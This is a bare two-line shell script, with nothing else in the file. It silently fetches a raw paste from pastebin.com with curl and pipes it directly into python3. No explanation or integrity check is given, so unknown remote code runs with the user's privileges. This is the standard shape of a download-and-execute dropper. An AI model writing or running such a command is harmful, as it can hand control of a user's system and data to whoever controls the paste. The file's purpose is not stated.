#!/bin/sh
curl -sSL https://pastebin.com/raw/Qm3xT7 | python3 -
